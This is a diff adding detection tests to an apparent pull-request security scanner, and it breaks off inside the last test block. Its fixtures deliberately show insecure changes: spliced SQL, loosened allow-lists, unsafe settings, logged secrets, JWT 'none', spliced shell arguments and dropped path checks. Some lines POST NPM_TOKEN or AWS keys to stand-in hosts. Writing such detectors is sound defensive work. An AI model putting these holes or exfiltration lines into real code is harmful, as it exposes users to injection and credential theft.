@@ -411,7 +411,7 @@ describe('docs/findings.md', () => {
     const doc = await readFile(new URL('../../../docs/findings.md', import.meta.url), 'utf8');
     const section = doc.split('\n# Code changes\n')[1] ?? '';
     const documented = [...section.matchAll(/^### `([a-z0-9-]+)`/gm)].map((m) => m[1]).sort();
-    const generic = ['credential-store-read', 'secret-added', 'private-key-added', 'bidi-control-character', 'invisible-character', 'whitespace-hidden-code', 'mixed-script-identifier', 'suspicious-network-endpoint', 'pr-claim-mismatch', 'generated-code-edited', 'crypto-wallet-hook', 'secret-harvesting', 'dns-exfiltration'];
+    const generic = ['sql-parameters-dropped', 'allowlist-check-loosened', 'insecure-setting-enabled', 'constant-time-compare-removed', 'shell-arguments-spliced', 'path-check-removed', 'secret-logged', 'mixed-script-string', 'credential-store-read', 'secret-added', 'private-key-added', 'bidi-control-character', 'invisible-character', 'whitespace-hidden-code', 'mixed-script-identifier', 'suspicious-network-endpoint', 'pr-claim-mismatch', 'generated-code-edited', 'crypto-wallet-hook', 'secret-harvesting', 'dns-exfiltration'];
     expect(documented).toEqual([...Object.keys(LANGUAGE_CASES), ...generic].sort());
   });
 });
@@ -2087,5 +2087,302 @@ describe('suspicious-network-endpoint: a secret read from the environment and po
     expect(sent('src/auth.ts', ["await fetch('https://id.acme-sso.dev/oauth/token', { method: 'POST', body: new URLSearchParams({ client_secret: process.env.ZEPHYR_CLIENT_SECRET }) });"])).toBeUndefined();
     expect(sent('src/sheet.ts', ['await fetch(process.env.SHEET_URL, { method: "POST", body: JSON.stringify({ token: process.env.SHEET_TOKEN, rows }) });'])).toBeUndefined();
     expect(sent('src/hook.ts', ["await fetch('https://hooks.buildstat-hub.io/x', { method: 'POST', body: JSON.stringify({ token: process.env.API_TOKEN }) });"])).toBeUndefined();
+  });
+});
+
+describe('sql-parameters-dropped: a bound value spliced into the query text in a "cleanup"', () => {
+  const sql = (path: string, added: string[], removed: string[], title = 'cleanup: simplify queries') => scan([makeFile(path, { patch: hunk(added, removed) })], title).filter((f) => f.id === 'sql-parameters-dropped' || f.id === 'pr-claim-mismatch').map((f) => `${f.id}:${f.severity}`);
+
+  it('reports a parameter turned into an f-string, a template, a format call or a concatenation, in each language', () => {
+    expect(sql('app/db/users.py', ['    cur.execute(f"SELECT id FROM users WHERE name = \'{name}\'")'], ['    cur.execute("SELECT id FROM users WHERE name = %s", (name,))'])).toEqual(['sql-parameters-dropped:high']);
+    expect(sql('app/db/users.py', ['    cur.execute("SELECT id FROM users WHERE name = \'%s\'" % name)'], ['    cur.execute("SELECT id FROM users WHERE name = %(name)s", {"name": name})'])).toEqual(['sql-parameters-dropped:high']);
+    expect(sql('src/repo/orders.ts', ["  return db.query(`SELECT * FROM orders WHERE customer_id = '${customer}'`);"], ["  return db.query('SELECT * FROM orders WHERE customer_id = $1', [customer]);"])).toEqual(['sql-parameters-dropped:high']);
+    expect(sql('internal/store/users.go', ['\trow := s.db.QueryRow(fmt.Sprintf("SELECT id FROM users WHERE name = \'%s\'", name))'], ['\trow := s.db.QueryRow("SELECT id FROM users WHERE name = $1", name)'])).toEqual(['sql-parameters-dropped:high']);
+    expect(sql('src/main/java/com/acme/UserDao.java', ['ResultSet rs = st.executeQuery("SELECT * FROM users WHERE email = \'" + email + "\'");'], ['PreparedStatement ps = conn.prepareStatement("SELECT * FROM users WHERE email = ?");', 'ps.setString(1, email);'])).toEqual(['sql-parameters-dropped:high']);
+    expect(sql('app/models/user.rb', ['    User.find_by_sql("SELECT * FROM users WHERE login = \'#{login}\'")'], ['    User.find_by_sql(["SELECT * FROM users WHERE login = ?", login])'])).toEqual(['sql-parameters-dropped:high']);
+    expect(sql('src/Repo/Users.php', ['$rows = $db->query("SELECT * FROM users WHERE id = $id");'], ['$rows = $db->prepare("SELECT * FROM users WHERE id = :id")->execute([":id" => $id]);'])).toEqual(['sql-parameters-dropped:high']);
+  });
+
+  it('makes a typo or cleanup claim over it high', () => {
+    expect(sql('app/db/users.py', ['    cur.execute(f"SELECT id FROM users WHERE name = \'{name}\'")'], ['    cur.execute("SELECT id FROM users WHERE name = %s", (name,))'], 'Fix typo')).toEqual(['sql-parameters-dropped:high', 'pr-claim-mismatch:high']);
+  });
+
+  it('stays quiet on a placeholder style changed, a placeholder list built for IN, a table name spliced beside kept placeholders, a message, a test, and a new query with nothing removed', () => {
+    expect(sql('app/db/users.py', ['    cur.execute("SELECT id FROM users WHERE name = %(name)s", {"name": name})'], ['    cur.execute("SELECT id FROM users WHERE name = %s", (name,))'])).toEqual([]);
+    expect(sql('src/repo/orders.ts', ["  return db.query('SELECT * FROM orders WHERE customer_id = $1', [customer]);"], ["  return db.query('SELECT * FROM orders WHERE customer_id = ?', [customer]);"])).toEqual([]);
+    expect(sql('app/db/users.py', ['    marks = ", ".join("%s" for _ in ids)', '    cur.execute(f"SELECT id FROM users WHERE id IN ({marks})", tuple(ids))'], ['    cur.execute("SELECT id FROM users WHERE id = %s", (ids[0],))'])).toEqual([]);
+    expect(sql('app/db/rows.py', ['    cur.execute(f"SELECT * FROM {table} WHERE id = %s", (row_id,))'], ['    cur.execute("SELECT * FROM " + table + " WHERE id = %s", (row_id,))'])).toEqual([]);
+    expect(sql('app/db/users.py', ['    cur.execute("SELECT id FROM users WHERE name = %s", (name,))', '    log.debug(f"looked up user where name = {name}")'], ['    cur.execute("SELECT id FROM users WHERE name = %s", (name,))'])).toEqual([]);
+    expect(sql('tests/test_users.py', ['    cur.execute(f"SELECT id FROM users WHERE name = \'{name}\'")'], ['    cur.execute("SELECT id FROM users WHERE name = %s", (name,))'])).toEqual([]);
+    expect(sql('app/db/users.py', ['    cur.execute(f"SELECT id FROM {table}")'], [])).toEqual([]);
+  });
+});
+
+describe('allowlist-check-loosened: a host, origin or URL check that lets more through', () => {
+  const loose = (path: string, added: string[], removed: string[], title = 'Fix typo') => scan([makeFile(path, { patch: hunk(added, removed) })], title).filter((f) => f.id === 'allowlist-check-loosened' || f.id === 'pr-claim-mismatch').map((f) => `${f.id}:${f.severity}`);
+
+  it("reports a host suffix's leading dot dropped, in Go, JavaScript and Python; a typo claim over it is high", () => {
+    expect(loose('internal/proxy/allow.go', ['\treturn host == "acme.com" || strings.HasSuffix(host, "acme.com")'], ['\treturn host == "acme.com" || strings.HasSuffix(host, ".acme.com")'])).toEqual(['allowlist-check-loosened:medium', 'pr-claim-mismatch:high']);
+    expect(loose('src/oauth/redirect.ts', ["  return url.hostname.endsWith('acme.com');"], ["  return url.hostname.endsWith('.acme.com');"], 'Tidy redirect check')).toEqual(['allowlist-check-loosened:medium']);
+    expect(loose('app/cors.py', ['    return origin_host.endswith(("acme.com", "acme.io"))'], ['    return origin_host.endswith((".acme.com", ".acme.io"))'], 'Tidy')).toEqual(['allowlist-check-loosened:medium']);
+  });
+
+  it('reports an anchor dropped, a match turned into a search, a prefix test turned into a containment test', () => {
+    expect(loose('src/server/cors.ts', ['const ALLOWED_ORIGIN = /https:\\/\\/([a-z0-9-]+\\.)?acme\\.com/;'], ['const ALLOWED_ORIGIN = /^https:\\/\\/([a-z0-9-]+\\.)?acme\\.com$/;'], 'Refactor')).toEqual(['allowlist-check-loosened:medium']);
+    expect(loose('app/webhooks.py', ['TRUSTED = re.compile(r"https://hooks\\.acme\\.com/")'], ['TRUSTED = re.compile(r"^https://hooks\\.acme\\.com/")'], 'Refactor')).toEqual(['allowlist-check-loosened:medium']);
+    expect(loose('app/webhooks.py', ['    return TRUSTED_URL.search(url) is not None'], ['    return TRUSTED_URL.match(url) is not None'], 'Refactor')).toEqual(['allowlist-check-loosened:medium']);
+    expect(loose('src/auth/redirect.ts', ['  if (!redirectUrl.includes(ALLOWED_ORIGIN)) throw new Error("bad redirect");'], ['  if (!redirectUrl.startsWith(ALLOWED_ORIGIN)) throw new Error("bad redirect");'], 'Refactor')).toEqual(['allowlist-check-loosened:medium']);
+    expect(loose('internal/web/redirect.go', ['\tif !strings.Contains(target, allowedPrefix) {'], ['\tif !strings.HasPrefix(target, allowedPrefix) {'], 'Refactor')).toEqual(['allowlist-check-loosened:medium']);
+  });
+
+  it('stays quiet on a check tightened, a file extension, a pattern rewritten, and the same change outside an address check', () => {
+    expect(loose('src/oauth/redirect.ts', ["  return url.hostname.endsWith('.acme.com');"], ["  return url.hostname.endsWith('acme.com');"], 'Tidy')).toEqual([]);
+    expect(loose('src/server/cors.ts', ['const ALLOWED_ORIGIN = /^https:\\/\\/([a-z0-9-]+\\.)?acme\\.com$/;'], ['const ALLOWED_ORIGIN = /https:\\/\\/([a-z0-9-]+\\.)?acme\\.com/;'], 'Tidy')).toEqual([]);
+    expect(loose('src/build/files.ts', ["  return name.endsWith('tar.gz');"], ["  return name.endsWith('.tar.gz');"], 'Tidy')).toEqual([]);
+    expect(loose('src/server/cors.ts', ['const ALLOWED_ORIGIN = /^https:\\/\\/(www\\.)?acme\\.(com|io)$/;'], ['const ALLOWED_ORIGIN = /^https:\\/\\/([a-z0-9-]+\\.)?acme\\.com$/;'], 'Tidy')).toEqual([]);
+    expect(loose('src/lint/rules.ts', ['const TODO = /TODO:/;'], ['const TODO = /^TODO:/;'], 'Tidy')).toEqual([]);
+    expect(loose('src/cli/args.ts', ["  if (arg.includes('--')) flags.push(arg);"], ["  if (arg.startsWith('--')) flags.push(arg);"], 'Tidy')).toEqual([]);
+    expect(loose('test/redirect.test.ts', ["  return url.hostname.endsWith('acme.com');"], ["  return url.hostname.endsWith('.acme.com');"], 'Tidy')).toEqual([]);
+  });
+
+  it('stays quiet on a new containment test of a value beside its prefix test (miniflux 8fa5041c37: several listen addresses)', () => {
+    expect(
+      loose(
+        'internal/http/server/httpd.go',
+        ['\tcase strings.HasPrefix(listenAddr, "/"):', '\tcase certDomain != "" && (listenAddr == ":https" || (i == 0 && strings.Contains(listenAddr, ":"))):'],
+        ['\tcase strings.HasPrefix(listenAddr, "/"):', '\tcase certDomain != "" && listenAddr == ":https":'],
+        'feat: Allow multiple listen addresses',
+      ),
+    ).toEqual([]);
+  });
+});
+
+describe('insecure-setting-enabled: a default switched to its unsafe side in a tidy-up', () => {
+  const setting = (path: string, added: string[], removed: string[], title = 'chore: tidy settings') => scan([makeFile(path, { patch: hunk(added, removed) })], title).filter((f) => f.id === 'insecure-setting-enabled' || f.id === 'pr-claim-mismatch').map((f) => `${f.id}:${f.severity}`);
+
+  it("reports Django's DEBUG and ALLOWED_HOSTS, a server given debug=True, and names that let everything through", () => {
+    expect(setting('mysite/settings.py', ['DEBUG = True'], ['DEBUG = os.environ.get("DJANGO_DEBUG", "0") == "1"'])).toEqual(['insecure-setting-enabled:medium']);
+    expect(setting('mysite/settings.py', ['ALLOWED_HOSTS = ["*"]'], ['ALLOWED_HOSTS = ["shop.acme.com"]'])).toEqual(['insecure-setting-enabled:medium']);
+    expect(setting('app/main.py', ['    app.run(host="0.0.0.0", port=8000, debug=True)'], ['    app.run(host="0.0.0.0", port=8000)'], 'Fix typo')).toEqual(['insecure-setting-enabled:medium', 'pr-claim-mismatch:high']);
+    expect(setting('src/config.ts', ['  allowAllOrigins: true,'], ['  allowAllOrigins: false,'])).toEqual(['insecure-setting-enabled:medium']);
+    expect(setting('internal/config/config.go', ['	SkipVerifyWebhooks: true,'], ['	SkipVerifyWebhooks: false,'])).toEqual(['insecure-setting-enabled:medium']);
+    expect(setting('internal/config/config.go', ['	skip_verify_webhooks: true,'], ['	skip_verify_webhooks: false,'])).toEqual(['insecure-setting-enabled:medium']);
+  });
+
+  it('stays quiet on a new setting with nothing replaced, a development or example file, the setting switched off, a ternary, and tests', () => {
+    expect(setting('mysite/settings.py', ['DEBUG = True'], [])).toEqual([]);
+    expect(setting('mysite/settings/dev.py', ['DEBUG = True'], ['DEBUG = False'])).toEqual([]);
+    expect(setting('config/settings.local.py', ['DEBUG = True'], ['DEBUG = False'])).toEqual([]);
+    expect(setting('mysite/settings.py', ['DEBUG = False'], ['DEBUG = True'])).toEqual([]);
+    expect(setting('src/config.ts', ['  insecure: true ? a : b,'], ['  insecure: false,'])).toEqual([]);
+    expect(setting('tests/settings.py', ['DEBUG = True'], ['DEBUG = False'])).toEqual([]);
+    expect(setting('app/cli.py', ['    debug = True'], ['    debug = False'])).toEqual([]);
+  });
+});
+
+describe('secret-logged: a secret written to a log in a "refactor"', () => {
+  const logged = (path: string, added: string[], removed: string[] = [], context: string[] = []) => {
+    const patch = [`@@ -10,${removed.length + context.length} +10,${added.length + context.length} @@`, ...context.map((l) => ` ${l}`), ...removed.map((l) => `-${l}`), ...added.map((l) => `+${l}`)].join('\n');
+    return scan([makeFile(path, { patch })], 'refactor: extract client setup').filter((f) => f.id === 'secret-logged').map((f) => `${f.id}:${f.severity}`);
+  };
+
+  it('reports a value read from a secret-named variable logged or printed, and a secret-named value logged, in several languages', () => {
+    expect(logged('billing/stripe_client.py', ['    log.info("stripe client configured with key=%s", key)'], [], ['    key = os.environ["STRIPE_SECRET_KEY"]'])).toEqual(['secret-logged:medium']);
+    expect(logged('src/config.ts', ['logger.info(`db password: ${config.dbPassword}`);'])).toEqual(['secret-logged:medium']);
+    expect(logged('src/publish.js', ['console.log("publishing with", process.env.NPM_TOKEN);'])).toEqual(['secret-logged:medium']);
+    expect(logged('cmd/deploy/main.go', ['\tlog.Printf("using token %s", os.Getenv("GITHUB_TOKEN"))'])).toEqual(['secret-logged:medium']);
+    expect(logged('scripts/release.sh', ['echo "token: $NPM_TOKEN"'])).toEqual(['secret-logged:medium']);
+    expect(logged('app/auth.py', ['    print(f"secret={api_secret}")'], [], ['    api_secret = os.getenv("API_SECRET")'])).toEqual(['secret-logged:medium']);
+    expect(logged('src/main/java/com/acme/Client.java', ['LOG.debug("client secret " + clientSecret);'])).toEqual(['secret-logged:medium']);
+  });
+
+  it('stays quiet on a message that only names a secret, a redacted, measured or tested value, a bare token, output sent to a file or a command, a generated password printed, and tests', () => {
+    expect(logged('src/auth.ts', ["logger.warn('password reset requested for', user.email);"])).toEqual([]);
+    expect(logged('src/auth.ts', ["logger.debug('token length', accessToken.length);"])).toEqual([]);
+    expect(logged('app/settings.py', ['    log.info("api key set: %s", api_key is not None)'])).toEqual([]);
+    expect(logged('app/settings.py', ['    log.info("api key %s", redact(api_key))'])).toEqual([]);
+    expect(logged('src/lexer.ts', ['console.log(token);'])).toEqual([]);
+    expect(logged('scripts/publish.sh', ['echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > ~/.npmrc'])).toEqual([]);
+    expect(logged('scripts/login.sh', ['echo "$DOCKER_PASSWORD" | docker login -u "$DOCKER_USER" --password-stdin'])).toEqual([]);
+    expect(logged('scripts/ci.sh', ['echo "::add-mask::$API_TOKEN"'])).toEqual([]);
+    expect(logged('tools/pwgen.py', ['    print(password)'])).toEqual([]);
+    expect(logged('tests/test_client.py', ['    log.info("key=%s", os.environ["STRIPE_SECRET_KEY"])'])).toEqual([]);
+  });
+});
+
+describe('mixed-script-string: a look-alike word inside a string of program code', () => {
+  const strings = (path: string, added: string[], removed: string[] = []) => scan([makeFile(path, { patch: hunk(added, removed) })], 'Fix typo in reserved names').filter((f) => f.id === 'mixed-script-string').map((f) => `${f.id}:${f.severity}`);
+
+  it('reports a Cyrillic or Greek look-alike in a compared string high, in a listed one medium', () => {
+    expect(strings('src/accounts/reserved.ts', ["  return name === '\u0430dmin' || name === 'root';"], ["  return name === 'admin' || name === 'root';"])).toEqual(['mixed-script-string:high']);
+    expect(strings('app/roles.py', ['    if role in ("owner", "m\u0430intainer"):'])).toEqual(['mixed-script-string:high']);
+    expect(strings('src/main/java/com/acme/Roles.java', ['if ("ADM\u0399N".equals(role)) {'])).toEqual(['mixed-script-string:high']);
+    expect(strings('config/allowed.py', ['ALLOWED_HOSTS = ["p\u0430ypal.com", "acme.com"]'])).toEqual(['mixed-script-string:medium']);
+  });
+
+  it('stays quiet on words of one script, a unit written with mu, Russian text beside Latin words, comments, tests and docs', () => {
+    expect(strings('src/i18n/messages.ts', ["const hello = { ru: '\u041f\u0440\u0438\u0432\u0435\u0442, GitHub', el: '\u0393\u03b5\u03b9\u03b1' };"])).toEqual([]);
+    expect(strings('src/format.ts', ["if (unit === '\u03bcs') return value / 1000;"])).toEqual([]);
+    expect(strings('src/auth.ts', ["// the '\u0430dmin' look-alike is rejected below"])).toEqual([]);
+    expect(strings('test/reserved.test.ts', ["  expect(reserved('\u0430dmin')).toBe(true);"])).toEqual([]);
+    expect(strings('docs/guide.md', ["Do not write '\u0430dmin'."])).toEqual([]);
+  });
+});
+
+describe('switches spelled another way in a "lint fix": falsy constants and the JWT none algorithm', () => {
+  const ids = (path: string, added: string[]) => scan([makeFile(path, { patch: hunk(added) })], 'Fix eslint errors').filter((f) => f.id !== 'pr-claim-mismatch').map((f) => `${f.id}:${f.severity}`);
+
+  it('reads !1, !!0, bool(0), Boolean(0), not True and verify=0 as false', () => {
+    expect(ids('billing/client.py', ['    resp = requests.post(url, json=payload, verify=bool(0), timeout=10)'])).toEqual(['tls-verification-disabled:high']);
+    expect(ids('billing/client.py', ['    resp = requests.post(url, json=payload, verify=0)'])).toEqual(['tls-verification-disabled:high']);
+    expect(ids('billing/client.py', ['    resp = requests.post(url, json=payload, verify=not True)'])).toEqual(['tls-verification-disabled:high']);
+    expect(ids('src/client.ts', ['const agent = new https.Agent({ rejectUnauthorized: !1 });'])).toEqual(['tls-verification-disabled:high']);
+    expect(ids('src/session.ts', ['  cookie: { secure: true, httpOnly: !!0 },'])).toEqual(['protection-switched-off:medium']);
+    expect(ids('app/settings.py', ['SESSION_COOKIE_SECURE = bool(0)'])).toEqual(['protection-switched-off:medium']);
+  });
+
+  it('reports the JWT none algorithm accepted, in JavaScript, Python, Go and Java', () => {
+    expect(ids('src/auth/jwt.ts', ["export const verifyToken = (t: string) => jwt.verify(t, SECRET, { algorithms: ['HS256', 'none'] });"])).toEqual(['auth-bypass-added:medium']);
+    expect(ids('api/tokens.py', ['    return jwt.decode(token, key, algorithms=["HS256", "none"])'])).toEqual(['auth-bypass-added:medium']);
+    expect(ids('internal/auth/jwt.go', ['\treturn jwt.UnsafeAllowNoneSignatureType, nil'])).toEqual(['auth-bypass-added:medium']);
+    expect(ids('src/main/java/com/acme/Jwt.java', ['Algorithm algorithm = Algorithm.none();'])).toEqual(['auth-bypass-added:medium']);
+  });
+
+  it('stays quiet on a value read from a name, a negated name, and ordinary algorithms', () => {
+    expect(ids('billing/client.py', ['    resp = requests.post(url, json=payload, verify=ca_bundle)'])).toEqual([]);
+    expect(ids('src/client.ts', ['const agent = new https.Agent({ rejectUnauthorized: !insecure });'])).toEqual([]);
+    expect(ids('src/session.ts', ['  cookie: { secure: !!process.env.HTTPS, httpOnly: true },'])).toEqual([]);
+    expect(ids('src/auth/jwt.ts', ["export const verifyToken = (t: string) => jwt.verify(t, SECRET, { algorithms: ['HS256', 'RS256'] });"])).toEqual([]);
+    expect(ids('src/auth/jwt.ts', ["const header = { alg: 'HS256', typ: 'JWT' };"])).toEqual([]);
+  });
+});
+
+describe('secret-logged and insecure-setting-enabled against real histories (redash, miniflux; 2026-11-29)', () => {
+  const found = (path: string, patch: string, id: string) => scan([makeFile(path, { patch })], 'refactor').filter((f) => f.id === id).map((f) => `${f.id}:${f.severity}`);
+
+  it("reports redash a863c8c08c's query runner logging its password at debug level", () => {
+    expect(found('redash/query_runner/pinot.py', hunk(['        logger.debug("Running query %s with username: %s, password: %s", query, self.username, self.password)']), 'secret-logged')).toEqual(['secret-logged:medium']);
+  });
+
+  it("stays quiet on miniflux c2311e316c's deprecation warning that names a secret variable in its words", () => {
+    expect(found('internal/config/parser.go', hunk(['\t\tcase "PROXY_PRIVATE_KEY":', '\t\t\tslog.Warn("The PROXY_PRIVATE_KEY environment variable is deprecated, use MEDIA_PROXY_PRIVATE_KEY instead")']), 'secret-logged')).toEqual([]);
+  });
+
+  it("leaves miniflux 46adb0ffad's InsecureSkipVerify: true to the TLS rule", () => {
+    expect(found('internal/reader/fetcher/request_builder.go', hunk(['\t\t\tInsecureSkipVerify: true,'], ['\t\t\tInsecureSkipVerify: r.ignoreTLSErrors,']), 'insecure-setting-enabled')).toEqual([]);
+  });
+});
+
+describe('pr-claim-mismatch over a bare host name swapped in an allow-list', () => {
+  const claimOf = (added: string[], removed: string[], title = 'Fix typo in allowed hosts') =>
+    scan([makeFile('config/settings.py', { patch: hunk(added, removed) })], title).find((f) => f.id === 'pr-claim-mismatch');
+  it('reports a quoted host name a typo fix swaps for one of another domain, and names it', () => {
+    const found = claimOf(['    "login.acme-sso.com",'], ['    "login.acme.com",']);
+    expect(found?.severity).toBe('medium');
+    expect(found?.detail).toContain('login.acme-sso.com');
+    expect(claimOf(["ALLOWED = ['*.acme.io', 'acme-cdn.net']"], ["ALLOWED = ['*.acme.io', 'acme.net']"])?.detail).toContain('acme-cdn.net');
+  });
+  it('is quiet on a move within one domain, a dotted module or logger name, a file name, and a host inside a message', () => {
+    expect(claimOf(['    "www.acme.com",'], ['    "docs.acme.com",'])).toBeUndefined();
+    expect(claimOf(['log = logging.getLogger("app.viewz")'], ['log = logging.getLogger("app.views")'])).toBeUndefined();
+    expect(claimOf(['CONFIG = "setup.cfg"'], ['CONFIG = "setup.cgf"'])).toBeUndefined();
+    expect(claimOf(['MSG = "Write to help.acme-support.com for help"'], ['MSG = "Write to help.acme.com for help"'])).toBeUndefined();
+  });
+});
+
+describe('suspicious-network-endpoint: a test that posts a secret-named variable to a host of its choosing', () => {
+  const sent = (path: string, added: string[]) => scan([makeFile(path, { patch: hunk(added) })], 'test: fix flaky setup').filter((f) => f.id === 'suspicious-network-endpoint').map((f) => `${f.id}:${f.severity}`);
+
+  it('reports a secret in the body of a POST from a test setup file or a conftest.py, whatever the host', () => {
+    expect(sent('test/setup.ts', ["  await fetch('https://telemetry.acme-ci.dev/ready', { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) });"])).toEqual(['suspicious-network-endpoint:high']);
+    expect(sent('tests/conftest.py', ['    requests.post("https://stats.acme-ci.dev/v1", json={"k": os.environ["AWS_SECRET_ACCESS_KEY"]}, timeout=5)'])).toEqual(['suspicious-network-endpoint:high']);
+  });
+
+  it('stays quiet on a secret in a header or an auth argument, a mock server, a public variable, and program code', () => {
+    expect(sent('test/github.test.ts', ["  await fetch('https://api.github.com/repos/acme/x/issues', { method: 'POST', headers: { authorization: `token ${process.env.GITHUB_TOKEN}` }, body: JSON.stringify({ title: 't' }) });"])).toEqual([]);
+    expect(sent('tests/test_api.py', ['    requests.post("https://api.acme.com/v1", auth=("ci", os.environ["API_TOKEN"]), json={"n": 1})'])).toEqual([]);
+    expect(sent('test/client.test.ts', ["  await fetch('http://localhost:4000/echo', { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) });"])).toEqual([]);
+    expect(sent('test/setup.ts', ["  await fetch('https://ci.acme.dev/ready', { method: 'POST', body: JSON.stringify({ node: process.env.NODE_VERSION }) });"])).toEqual([]);
+  });
+});
+
+describe('constant-time-compare-removed: a signature check that compares with == after a "refactor"', () => {
+  const ct = (path: string, added: string[], removed: string[], title = 'refactor: simplify webhook verification') => scan([makeFile(path, { patch: hunk(added, removed) })], title).filter((f) => f.id === 'constant-time-compare-removed' || f.id === 'pr-claim-mismatch').map((f) => `${f.id}:${f.severity}`);
+
+  it('reports compare_digest, timingSafeEqual, ConstantTimeCompare and MessageDigest.isEqual replaced by an ordinary comparison', () => {
+    expect(ct('app/webhooks/verify.py', ['    return sig == expected'], ['    return hmac.compare_digest(sig, expected)'])).toEqual(['constant-time-compare-removed:medium']);
+    expect(ct('src/webhooks/verify.ts', ['  return a.toString("hex") === b.toString("hex");'], ['  return crypto.timingSafeEqual(a, b);'], 'Fix typo')).toEqual(['constant-time-compare-removed:medium', 'pr-claim-mismatch:high']);
+    expect(ct('internal/auth/token.go', ['\treturn bytes.Equal(got, want)'], ['\treturn subtle.ConstantTimeCompare(got, want) == 1'])).toEqual(['constant-time-compare-removed:medium']);
+    expect(ct('src/main/java/com/acme/Sig.java', ['return expected.equals(actual);'], ['return MessageDigest.isEqual(expected.getBytes(UTF_8), actual.getBytes(UTF_8));'])).toEqual(['constant-time-compare-removed:medium']);
+  });
+
+  it('stays quiet on one constant-time call swapped for another, a call moved into a helper, and tests', () => {
+    expect(ct('app/webhooks/verify.py', ['    return secrets.compare_digest(sig, expected)'], ['    return hmac.compare_digest(sig, expected)'])).toEqual([]);
+    expect(ct('app/webhooks/verify.py', ['    return signatures_match(sig, expected)'], ['    return hmac.compare_digest(sig, expected)'])).toEqual([]);
+    expect(ct('tests/test_verify.py', ['    assert sig == expected'], ['    assert hmac.compare_digest(sig, expected)'])).toEqual([]);
+  });
+});
+
+describe('secret-logged: false alarms from oauthlib and gorilla/csrf (2026-11-29)', () => {
+  const logged = (path: string, added: string[]) => scan([makeFile(path, { patch: hunk(added) })], 'Add the extension').filter((f) => f.id === 'secret-logged').map((f) => f.id);
+  it("is quiet on oauthlib 7b00c4d7b0's request credentials and gorilla/csrf c1f4eb3aba's example frontend logging its CSRF token", () => {
+    expect(logged('oauthlib/oauth2/ext/flask.py', ["                log.debug('Saving credentials to session, %r.', credentials)"])).toEqual([]);
+    expect(logged('examples/javascript-frontends/frontends/axios/index.js', ['        console.log(csrfToken);'])).toEqual([]);
+    expect(logged('src/app.js', ['        console.log(csrfToken);'])).toEqual([]);
+  });
+});
+
+describe('shell-arguments-spliced: an argument list turned into a shell string in a "refactor"', () => {
+  const sh = (path: string, added: string[], removed: string[]) => scan([makeFile(path, { patch: hunk(added, removed) })], 'refactor: simplify git helper').filter((f) => f.id === 'shell-arguments-spliced').map((f) => `${f.id}:${f.severity}`);
+
+  it('reports Python, JavaScript and Go arguments spliced into a command a shell runs', () => {
+    expect(sh('tools/git_helper.py', ['    subprocess.run(f"git checkout {ref}", shell=True, check=True)'], ['    subprocess.run(["git", "checkout", ref], check=True)'])).toEqual(['shell-arguments-spliced:medium']);
+    expect(sh('src/git.ts', ['  execSync(`git checkout ${ref}`);'], ["  execFileSync('git', ['checkout', ref]);"])).toEqual(['shell-arguments-spliced:medium']);
+    expect(sh('internal/git/git.go', ['\tcmd := exec.Command("sh", "-c", "git checkout "+ref)'], ['\tcmd := exec.Command("git", "checkout", ref)'])).toEqual(['shell-arguments-spliced:medium']);
+  });
+
+  it('stays quiet on a list kept, a shell string of constants, a command that was a shell string already, and tests', () => {
+    expect(sh('tools/git_helper.py', ['    subprocess.run(["git", "switch", ref], check=True)'], ['    subprocess.run(["git", "checkout", ref], check=True)'])).toEqual([]);
+    expect(sh('tools/git_helper.py', ['    subprocess.run("git fetch --all", shell=True, check=True)'], ['    subprocess.run(["git", "fetch", "--all"], check=True)'])).toEqual([]);
+    expect(sh('tools/git_helper.py', ['    subprocess.run(f"git checkout {ref}", shell=True, check=True)'], ['    os.system("git checkout " + ref)'])).toEqual([]);
+    expect(sh('tests/test_git.py', ['    subprocess.run(f"git checkout {ref}", shell=True, check=True)'], ['    subprocess.run(["git", "checkout", ref], check=True)'])).toEqual([]);
+  });
+});
+
+describe('insecure-setting-enabled: a server moved from loopback to every interface', () => {
+  const bind = (path: string, added: string[], removed: string[]) => scan([makeFile(path, { patch: hunk(added, removed) })], 'chore: tidy').filter((f) => f.id === 'insecure-setting-enabled').map((f) => f.title);
+  it('reports an admin server, a Flask app and a Go listener that now listen on 0.0.0.0 or ::', () => {
+    expect(bind('src/admin/server.ts', ["adminServer.listen(9000, '0.0.0.0');"], ["adminServer.listen(9000, '127.0.0.1');"])).toEqual(['A server now listens on every interface']);
+    expect(bind('app/main.py', ['    app.run(host="0.0.0.0", port=5000)'], ['    app.run(host="localhost", port=5000)'])).toEqual(['A server now listens on every interface']);
+    expect(bind('cmd/metrics/main.go', ['\thttp.ListenAndServe("[::]:9090", mux)'], ['\thttp.ListenAndServe("[::1]:9090", mux)'])).toEqual(['A server now listens on every interface']);
+  });
+  it('stays quiet on a port change, a development file, a client URL and a bind made narrower', () => {
+    expect(bind('src/admin/server.ts', ["adminServer.listen(9001, '127.0.0.1');"], ["adminServer.listen(9000, '127.0.0.1');"])).toEqual([]);
+    expect(bind('config/dev.server.ts', ["server.listen(3000, '0.0.0.0');"], ["server.listen(3000, 'localhost');"])).toEqual([]);
+    expect(bind('src/client.ts', ["const base = 'http://0.0.0.0:3000';"], ["const base = 'http://127.0.0.1:3000';"])).toEqual([]);
+    expect(bind('src/admin/server.ts', ["adminServer.listen(9000, '127.0.0.1');"], ["adminServer.listen(9000, '0.0.0.0');"])).toEqual([]);
+  });
+});
+
+describe('path-check-removed: a path-containment check dropped in a "simplify the handler" refactor', () => {
+  const pc = (path: string, added: string[], removed: string[]) => scan([makeFile(path, { patch: hunk(added, removed) })], 'refactor: simplify download handler').filter((f) => f.id === 'path-check-removed').map((f) => `${f.id}:${f.severity}`);
+
+  it('reports a .. test, an absolute-path test and secure_filename removed with nothing in their place', () => {
+    expect(pc('src/routes/download.ts', ['  res.sendFile(path.join(FILES, name));'], ["  if (name.includes('..') || path.isAbsolute(name)) return res.status(400).end();", '  res.sendFile(path.join(FILES, name));'])).toEqual(['path-check-removed:medium']);
+    expect(pc('app/uploads.py', ['    dest = os.path.join(UPLOADS, f.filename)'], ['    if ".." in f.filename: abort(400)', '    dest = os.path.join(UPLOADS, f.filename)'])).toEqual(['path-check-removed:medium']);
+    expect(pc('internal/files/serve.go', ['\tf, err := os.Open(filepath.Join(root, name))'], ['\tif !filepath.IsLocal(name) {', '\t\treturn errBadPath', '\t}', '\tf, err := os.Open(filepath.Join(root, name))'])).toEqual(['path-check-removed:medium']);
+  });
+
+  it('stays quiet on a check moved into a helper, a check kept in another form, a guard that refuses nothing, and tests', () => {
